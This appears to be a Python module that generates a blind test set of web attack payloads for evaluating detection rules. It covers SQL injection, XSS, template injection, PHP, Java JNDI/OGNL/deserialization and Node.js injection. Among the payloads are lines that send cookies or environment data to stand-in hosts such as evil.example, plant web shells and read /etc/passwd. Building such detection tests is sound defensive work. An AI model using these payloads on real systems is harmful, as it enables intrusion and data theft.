"""Second, independent blind set for SQL injection, XSS, server-side template injection, PHP injection, Java
(JNDI lookups, OGNL, EL/SpEL, Groovy, deserialization) and Node.js (code injection, prototype pollution), with
benign requests that carry the same words (Slack messages, profile bios, search queries, public URLs, prose).

Written by a different author than the rules and the first blind sets, from general knowledge of each family
(pentester variations: dialects, grammar, quoting, comments, whitespace substitutes, encodings), without reading
the other generators' payload lists or any ruleset's regression tests. Each payload goes into three of our input
places (query, form, JSON, cookie, header), rotating. Same record schema as family_gen.py; deterministic.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .family_gen import _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import numbered, print_records

SQLI = [
    # boolean, quoted and numeric contexts
    "' OR 'x'='x",
    "admin'--",
    "1' AND 1=1#",
    "-1 OR 2>1",
    "5 or true",
    "' or ''='",
    "\" or \"\"=\"",
    "1') or ('1'='1",
    "x' AND substring(version(),1,1)='5",
    "1 AND ascii(substr((select user()),1,1))>64",
    "' || 1=1 --",
    "1'and'1'like'1",
    # union
    "0 union all select null,null,concat(user,0x3a,password) from mysql.user",
    "1 UNION/**/SELECT 1,2,table_name FROM information_schema.tables",
    "')) union select username, password from users--",
    "-7 /*!50000UNION*/ /*!50000SELECT*/ 1,@@version",
    "1%0bunion%0bselect%0b1,2",
    "1 union distinctrow select 1,group_concat(column_name) from information_schema.columns",
    # time based, by dialect
    "1' AND SLEEP(5)-- -",
    "1 and benchmark(5000000,md5(1))",
    "'; WAITFOR DELAY '0:0:5'--",
    "1;select pg_sleep(10)--",
    "1 AND 7=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "x' AND 1=(SELECT 1 FROM (SELECT SLEEP(3))a)-- ",
    "1 and randomblob(500000000)",
    "1) or (select case when (1=1) then pg_sleep(3) else pg_sleep(0) end)--",
    # error based
    "1 and extractvalue(1,concat(0x7e,(select database())))",
    "1' and updatexml(null,concat(0x0a,version()),null)-- ",
    "1 AND 1=CONVERT(int,@@version)",
    "' and 1=cast((select current_user) as int)--",
    "1 and 1=ctxsys.drithsx.sn(1,(select user from dual))",
    "' AND EXP(~(SELECT * FROM (SELECT USER())x))-- -",
    # stacked, out of band
    "1; DROP TABLE sessions;--",
    "x'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1; insert into admins(name) values ('eve')--",
    "'; copy (select '') to program 'curl http://attacker.example/x'--",
    "1 union select load_file(concat('\\\\\\\\',version(),'.oob.example\\\\a'))",
    "1 and (select utl_http.request('http://oob.example/'||user) from dual) is not null",
    "'; declare @q varchar(99); set @q='\\\\oob.example\\x'; exec master.dbo.xp_dirtree @q--",
    "1 into outfile '/var/www/html/s.php'",
    # identifier / order by / limit contexts
    "name,(select case when 1=1 then 1 else 1/0 end)",
    "id desc, sleep(2)",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "(CASE WHEN (SELECT 1)=1 THEN created_at ELSE id END)",
    "if(1=1,sleep(2),0)",
    # JSON operators, concatenation, SQLite and schema probes
    "' or data->>'role'='admin",
    "1' and json_extract('{\"a\":1}','$.a')=1--",
    "'||(select sqlite_version())||'",
    "' union select sql from sqlite_master--",
    "' and (select count(*) from sysobjects)>0--",
    "'+(select top 1 name from sys.databases)+'",
    "1 and 1=(select 1 from pg_catalog.pg_tables limit 1)",
    "admin' oR/**/1=1/*",
    "1 aNd CHAR(65)=CHAR(65)",
    "%27%20or%201%3D1--",
]

XSS = [
    "<script>alert(document.domain)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=confirm`1`>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=print()>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"jAvAsCrIpT:alert(1)\">click</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">y</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>1</option></select>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</textarea><script>prompt(1)</script>",
    "</title><img src=1 onerror=alert(1)>",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "${alert(1)}</script><script>alert`x`</script>",
    "`;alert(document.cookie);//",
    "';alert(String.fromCharCode(88,83,83))//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x:x onerror=window['al'+'ert'](1)>",
    "<form id=x><input name=attributes></form>",
    "<a id=defaultConfig name=defaultConfig href=\"cid:x\"></a>",
    "<x onclick=alert(1)>click me</x>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=javascript:alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
]

SSTI = [
    # Jinja2 / Flask
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ lipsum.__globals__['os'].popen('whoami').read() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{% import os %}{{ os.system('id') }}",
    # Twig
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{ app.request.server.all|join(',') }}",
    # Freemarker
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
    # Velocity
    ("#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)."
     "invoke(null,null).exec(\"id\")"),
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    # ERB / Ruby
    "<%= 7*7 %>",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= IO.popen('id').readlines() %>",
    "#{7*7}",
    "#{%x(id)}",
    # Handlebars / Mustache
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.pop}}{{/with}}{{/with}}",
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    # Thymeleaf / Spring
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "[[${T(java.lang.System).getenv()}]]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "[(${7*7})]",
    # Pug / Jade, Nunjucks, EJS, doT, Smarty, Tornado, Mako
    "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "<%- global.process.mainModule.require('child_process').execSync('id') %>",
    "{{=it.constructor.constructor('return process')()}}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{% import os %}{{os.popen(\"id\").read()}}",
    "<%import os%>${os.popen('id').read()}",
    "${self.module.cache.util.os.system('id')}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "${{7*7}}",
    "{{7*7}}[[3*3]]",
]

PHP = [
    "<?php system($_REQUEST['cmd']);",
    "<?php\r\nreadfile('/etc/passwd');",
    "<?= file_get_contents('/etc/shadow') ?>",
    "<script language=\"php\">system('id');</script>",
    "assert('phpinfo()')",
    "create_function('', 'system(\"id\");')",
    "preg_replace('/.*/e','system(\"id\")','')",
    "call_user_func('system','id')",
    "call_user_func_array('passthru',array('id'))",
    "array_map('system',array('id'))",
    "usort($a,'system')",
    "$f='sys'.'tem';$f('id');",
    "${@print(md5(1))}",
    "${${phpinfo()}}",
    "{${system('id')}}",
    "$_GET[a]($_GET[b])",
    "@$_POST['x']($_POST['y'])",
    "$GLOBALS['_SERVER']['HTTP_X']",
    "base64_decode('c3lzdGVtKCdpZCcpOw==')",
    "eval(gzinflate(base64_decode('SyvNS9ZQT8nMS1cvLkksTQYA')))",
    "eval(str_rot13('flfgrz(\"vq\");'))",
    "eval(hex2bin('73797374656d28276964272933b'))",
    "proc_open('id',array(),$p)",
    "popen('id','r')",
    "pcntl_exec('/bin/sh',array('-c','id'))",
    "fsockopen('10.0.0.9',4444)",
    "file_put_contents('shell.php','<?php eval($_POST[1]);')",
    "include('http://evil.example/shell.txt')",
    "require_once $_GET['page'];",
    "ini_set('allow_url_include','1')",
    "php://filter/read=string.toupper|convert.base64-encode/resource=config.php",
    "php://filter/zlib.deflate/resource=/etc/hosts",
    "php://stdin",
    "phar://uploads/avatar.png/test.txt",
    "glob:///var/www/*",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"socket\";N;}}",
    "O:+4:\"Evil\":0:{}",
    "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}",
    ("O:32:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:36:\"\\0GuzzleHttp\\Cookie\\FileCookieJar\\0"
     "filename\";s:9:\"shell.php\";}"),
    "unserialize($_COOKIE['data'])",
    "highlight_file('/var/www/config.php')",
    "show_source(__FILE__)",
    "extract($_GET);",
    "parse_str($_SERVER['QUERY_STRING'])",
    "mb_ereg_replace('.*','system(\"id\")','x','e')",
    "$x=new ReflectionFunction('system');$x->invoke('id');",
]

JAVA = [
    # JNDI lookups, plain and obfuscated
    "${jndi:ldap://attacker.example:1389/Exploit}",
    "${jndi:rmi://10.1.2.3:1099/obj}",
    "${jndi:dns://oob.example/a}",
    "${jndi:ldaps://x.example/a}",
    "${jndi:iiop://x.example/a}",
    "${jndi:nis://x.example/a}",
    "${jndi:corba://x.example/a}",
    "${JnDi:LdAp://x.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
    "${j${k8s:k5:-ND}i:ldap://x.example/a}",
    "${jndi:ldap://${env:USER}.${sys:java.version}.oob.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    "${${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:user.home}",
    "${ctx:loginId}${main:0}",
    # OGNL (Struts)
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))",
    "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}",
    "%{(#p=new java.lang.ProcessBuilder({'id'})).(#p.redirectErrorStream(true)).(#p.start())}",
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
    "#{@java.lang.Runtime@getRuntime().exec('calc')}",
    # SpEL, EL, Groovy
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})}",
    "${T (java.lang.System).getProperty('user.dir')}",
    "new java.lang.ProcessBuilder('id').start()",
    "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}",
    "${pageContext.request.getSession().setAttribute('a','b')}",
    "${applicationScope}",
    "${facesContext.externalContext.sessionMap}",
    "#{request.getClass().getClassLoader()}",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "\"id\".execute().text",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)",
    "java.lang.reflect.Method.invoke",
    "new javax.naming.InitialContext().lookup('ldap://x.example/a')",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('id')})",
    # deserialization gadget chains and stream markers
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "aced0005737200176a6176612e7574696c2e5072696f72697479517565756594",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x.example/a\",\"autoCommit\":true}",
    "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://x.example/a\"}]",
    "<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>",
    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>",
    "org.springframework.beans.factory.config.PropertyPathFactoryBean",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
]

NODE = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
    "process.mainModule.require('child_process').spawn('sh',['-c','id'])",
    "global.process.binding('spawn_sync')",
    "process.binding('fs')",
    "module.constructor._load('child_process').exec('id')",
    "import('child_process').then(m=>m.execSync('id'))",
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "require('fs').writeFileSync('/tmp/x','y')",
    "require('net').connect(4444,'10.0.0.9')",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
    "this.constructor.constructor('return process')().exit()",
    "[].constructor.constructor('return this')().process.env",
    "Function('return process')().mainModule",
    "new Function('require','return require(\"os\").userInfo()')",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
    "setTimeout('process.exit()',0)",
    "setInterval(\"require('os').hostname()\",1000)",
    "process.kill(process.pid)",
    "process.env.NODE_OPTIONS='--require /tmp/x.js'",
    "res.end(require('fs').readdirSync('.').toString())",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "{\"rce\":\"_$$ND_FUNC$$_function (){return 1}()\"}",
    "String.fromCharCode(114,101,113,117,105,114,101)",
    "globalThis.process.dlopen",
    "Reflect.construct(Function,['return process'])()",
    "while(1){}",
    "Object.prototype.polluted=1",
    "({}).__proto__.isAdmin=true",
    "Object.assign(Object.prototype,{shell:'/bin/sh'})",
    "x.__defineGetter__('toString',function(){return process})",
    "require('http').get('http://oob.example/'+process.env.HOME)",
]

# Round two, written after round one was measured and fixed but before measuring these: shapes further
# from the textbook ones (bracket notation, module prefixes, dialect builtins, scheme and entity tricks,
# less common engines), each family measured on the rules as they stood before this round.
SQLI_2 = [
    "1 RLIKE (SELECT (CASE WHEN (7=7) THEN 1 ELSE 0x28 END))",
    "1 AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM mysql.db GROUP BY x)",
    "' GROUP BY id HAVING 1=1--",
    "' and 1 in (select min(name) from master..sysdatabases)--",
    "';shutdown--",
    "1 or 3 between 2 and 4",
    "' or 1 in (1)-- ",
    "1'||(SELECT 'a' WHERE 1=1)||'",
    "1) ORDER BY 3-- -",
    "' AND GTID_SUBSET(@@hostname,0)-- ",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "1 AND 1=(SELECT 1 FROM generate_series(1,1))",
    "' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))--",
    "' UNION SELECT NULL FROM DUAL--",
    "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
    "1;IF(1=1) WAITFOR DELAY '0:0:5'--",
    "' AND 1=(SELECT IS_SRVROLEMEMBER('sysadmin'))--",
    "'+convert(varchar,@@version)+'",
    "1 union select * from openrowset('SQLOLEDB','x';'sa';'p','select 1')",
    "' AND 1=like('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "1; ATTACH DATABASE '/var/www/x.php' AS x;--",
    "1'or(1)=(1)#",
    "'or`id`",
    "1'||'1'='1",
    "'-'",
    "admin') or ('1'='1'/*",
    "1 and (select substr(table_name,1,1) from all_tables where rownum=1)='A'",
    "1 AND ELT(1=1,SLEEP(2))",
    "$$ or 1=1 $$",
    "(select*from(select(sleep(4)))a)",
]

XSS_2 = [
    "<svg><style>{font-family:'<iframe/onload=confirm()>'",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload\t=alert(1)>",
    "<a href=javas&#99;ript:alert(1)>x</a>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
    "<img src=x onerror=top['al\\x65rt'](1)>",
    "<img src=x onerror=import('//evil.example/x.js')>",
    "<script>{onerror=alert}throw 1</script>",
    "javascript://%0aalert(1)",
    "JaVaScRiPt:prompt(1)",
    "<img src=1 onerror=\\u0061lert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<style>*{background-image:url('javascript:alert(1)')}</style>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "'-alert(1)-'",
    "\"-confirm`1`-\"",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<iframe src=\"jav&Tab;ascript:alert(1)\">",
    "<body/onload=&#97;lert(1)>",
    "<img src onerror=print()>",
    "<svg><discard onbegin=alert(1)>",
    "</script><svg onload=alert(1)>",
]

SSTI_2 = [
    "{{request|attr(request.args.a)}}",
    "{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{url_for.__globals__['current_app'].config}}",
    "{{['id',1]|sort('system')|join}}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "${.data_model}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${\"x\"?api.class}",
    "$class.inspect('java.lang.Runtime')",
    "<% import os; x=os.popen('id').read() %>${x}",
    "{% raw __import__('os').popen('id').read() %}",
    "{{handler.settings}}",
    "{{printf \"%s\" .Secret}}",
    "{{ .Env.AWS_SECRET_ACCESS_KEY }}",
    "{{ 'x' | append: site.secret }}",
    "{{$on.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.META }}",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "<%= Dir.entries('/') %>",
    "{$smarty.version}",
    "{if system('id')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{{lookup this 'constructor'}}",
    "<%= Runtime.getRuntime().exec(request.getParameter(\"c\")) %>",
    "*{7*7}",
]

PHP_2 = [
    "${@eval($_POST[x])}",
    "`$_GET[0]`",
    "array_walk($a,'assert')",
    "eval(\"?>\".file_get_contents('http://evil.example/x'))",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://temp/maxmemory:1024",
    "ssh2.exec://user:pass@10.0.0.1/id",
    "assert(base64_decode($_POST[0]))",
    "preg_replace('/a/e',$_GET[c],'a')",
    "$_FILES['f']['tmp_name']",
    "getallheaders()['X']",
    "die(`id`);",
    "print(`cat /etc/passwd`);",
    "__halt_compiler();",
    "posix_getpwuid(posix_geteuid())",
    "dl('exploit.so')",
    "ob_start('system');echo 'id';ob_end_flush();",
    "new SplFileObject('/etc/passwd')",
    "(new ReflectionClass('PDO'))->newInstance()",
    "O:4:\"Test\":1:{S:4:\"\\61bc\";i:1;}",
    "a:2:{i:0;O:1:\"X\":0:{}i:1;i:2;}",
    "<?php\t$a=$_COOKIE;$a['f']($a['c']);",
    "@extract($_REQUEST);@die($f($c));",
    "include $_SERVER['DOCUMENT_ROOT'].'/../../etc/passwd';",
]

JAVA_2 = [
    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
    "${j${::-n}di:ldap://x.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://x.example/a}",
    "${sys:os.name}",
    "${java:version}",
    "${hostName}",
    "${web:rootDir}",
    "${spring:spring.datasource.password}",
    "${log4j:configLocation}",
    "(#a=@java.lang.Runtime@getRuntime().exec('id'))",
    "%{1+1}",
    "%25%7B%23a%3D%40java.lang.Runtime%40getRuntime()%7D",
    "#this.getClass().forName('java.lang.Runtime')",
    "''.class.getSuperclass().getDeclaredMethods()",
    "#{request.getParameter('x')}",
    "this.class.classLoader.parseClass('class X{}')",
    "def proc = 'id'.execute(); proc.waitFor()",
    "Runtime.getRuntime().exec(\"id\")",
    "H4sIAAAAAAAAAJVSTW/TQBC9V+p/WO0Bxlrt7IbHKkgBhOJB",
    "com.sun.jndi.rmi.registry.ReferenceWrapper",
    "javax.management.BadAttributeValueExpException",
    "org.hibernate.engine.spi.TypedValue",
    "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://x.example/a\"}]",
    "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "${param.cmd}",
    "${header['user-agent']}",
]

NODE_2 = [
    "process['mainModule']['require']('child_process')['execSync']('id')",
    "this['constructor']['constructor']('return process')()",
    "global['process']['env']",
    "require('node:child_process').execSync('id')",
    "require(\"node:fs\").readFileSync(\"/etc/passwd\")",
    "module.require('os').userInfo()",
    "spawn('sh',['-c','id'])",
    "exec('id', (e, o) => res.send(o))",
    "Deno.run({cmd:['id']})",
    "Bun.spawn(['id'])",
    "{\"$where\":\"sleep(5000)\"}",
    "toString.constructor.prototype.polluted=1",
    "x.__lookupGetter__('a')",
    "process.env",
    "res.send(__dirname)",
    "eval('req'+'uire')('child_process')",
    "(()=>{}).constructor('return process')()",
    "Object.getPrototypeOf({}).admin=true",
]

# Round three, written after round two was fixed and measured before any rule change for it: scanner
# probes, unterminated tags, entities without semicolons, polyglots, less common engines and directives.
SQLI_3 = [
    "if(now()=sysdate(),sleep(5),0)",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1 union(select(1),(2))",
    "1\u00a0union\u00a0select\u00a01,2",
    "1;show tables",
    "'; SELECT lo_import('/etc/passwd')--",
    "1 and current_user like 'root%'",
    "-1' or 1=1 limit 1 offset 1-- ",
    "1*if(1=1,1,0)",
    "1 or 0x50=0x50",
    "') or ('x')=('x",
    "1 OR 'ab'='a'||'b'",
    "' or username is not null or username = '",
    "1 OR LENGTH(database())>0",
    "SELECT * FROM users WHERE id = 1",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe",
    "1' WAITFOR TIME '23:59:59'--",
    "1;EXEC('SEL'+'ECT 1')",
    "CHAR(83)+CHAR(69)+CHAR(76)",
    "%' and 1=1 and '%'='",
    "1 or 1=1/*",
    "1;DECLARE @x CHAR(9);SET @x=0x303a303a3130;WAITFOR DELAY @x--",
    "1;SELECT/**/CAST(CHR(32)||(SELECT version()) AS NUMERIC)--",
    "@@version",
    "1 or 1 = 1 -- comment",
    "1'; SELECT * FROM pg_stat_activity--",
]

XSS_3 = [
    "<svg/onload=alert(1)//",
    "<img src=x onerror=alert(1)//",
    "<a href=javascript&#58alert(1)>x",
    "<iframe src=javascript&colon;alert&lpar;1&rpar;>",
    "<object type=text/x-scriptlet data=http://evil.example/x.sct>",
    "<frameset onload=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<form><button formaction=javascript&colon;alert(1)>X",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<script src=data:,alert(1)></script>",
    "<bgsound src=javascript:alert(1)>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"\\x01javascript:alert(1)\">x</a>",
    "<div onmouseenter=alert(1)>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<img src=x onerror=location='javascript:alert(1)'>",
    "<a href=java\nscript:alert(1)>x</a>",
    "<img srcset=x onerror=alert(1)>",
    "<div style=\"behavior:url(x.htc)\">",
    "<div style=\"x:\\65xpression(alert(1))\">",
    "<img src=x onerror=self[`al`+`ert`](1)>",
    "<svg onload=eval(location.hash.slice(1))>",
    "javascript:void(document.body.innerHTML='x')",
    "<a href=\"vbscript:Execute(MsgBox(1))\">x</a>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<style onload=alert(1)>",
]

SSTI_3 = [
    "${{<%[%'\"}}%\\.",
    "{{= 7*7 }}",
    "{{dump(app)}}",
    "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
    "<#assign classloader=article.class.protectionDomain.classLoader>",
    "#set($str=$class.inspect(\"java.lang.String\").type)",
    "$x.class.forName('java.lang.Runtime')",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('id') %}",
    "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance()}}",
    "@php system('id') @endphp",
    "{{ .System \"id\" }}",
    "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}",
    "<%= %x(id) %>",
    "{{ _self }}",
    "{{ config }}",
    "{{ messages.storages.0.signer.key }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{'7'*7}}",
    "{{ [].class.base.subclasses() }}",
]

PHP_3 = [
    "${'_GET'}[0](${'_GET'}[1])",
    "$$a($$b)",
    "php://filter/resource=/etc/passwd",
    "\\system('id');",
    "array_map('ass'.'ert',array($_POST[x]))",
    "imap_open('{x:143/imap}INBOX','','')",
    "error_log('<?php system($_GET[0]);?>',3,'/var/www/shell.php')",
    "copy('http://evil.example/x.txt','shell.php')",
    "$_=[];$_=@\"$_\";$_=$_['!'=='@'];",
    "(sy.(st).em)('id')",
]

JAVA_3 = [
    "${${lower:${lower:jndi}}:ldap://x.example/a}",
    "${jndi:ldap://[::1]:1389/a}",
    "$%7Bjndi:ldap://x.example/a%7D",
    "T(String).getClass().forName('java.lang.Runtime')",
    "#{session.setAttribute(\"x\",\"y\")}",
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A",
    "ldap://attacker.example:1389/Basic/Command/Base64/aWQ=",
    "${::-${::-$}{::-j}ndi:ldap://x.example/a}",
    "#{T(java.lang.System).exit(0)}",
    "${\"\".getClass().forName(\"java.lang.Runtime\")}",
]

NODE_3 = [
    "require(['child','process'].join('_'))",
    "process.openStdin()",
    "\\u0072equire('fs').readFileSync('/etc/passwd')",
    "'+require('os').hostname()+'",
    "Array.from(process.argv)",
    "process.stdout.write(process.version)",
    "require('module')._load('child_process')",
    "(function(){return this})().process.exit()",
    "module.children[0].require('fs')",
    "eval(\"process.exit()\")",
]

# Round four, written after round three's rules, measured before any change for it: short classic probes,
